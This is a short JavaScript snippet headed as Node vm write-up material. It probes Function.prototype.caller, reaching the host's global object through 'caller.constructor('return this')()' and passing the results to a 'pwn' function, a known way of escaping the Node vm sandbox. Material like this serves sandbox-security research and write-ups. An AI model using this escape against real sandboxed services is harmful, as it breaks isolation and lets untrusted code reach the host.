// Node vm write-ups: Function.prototype.caller
function g() { try { pwn(g.caller); pwn(g.caller && g.caller.constructor('return this')()) } catch (e) {} return 1 } log({ get y() { return g() } }); try { pwn(log.caller); pwn(log.arguments) } catch (e) {}
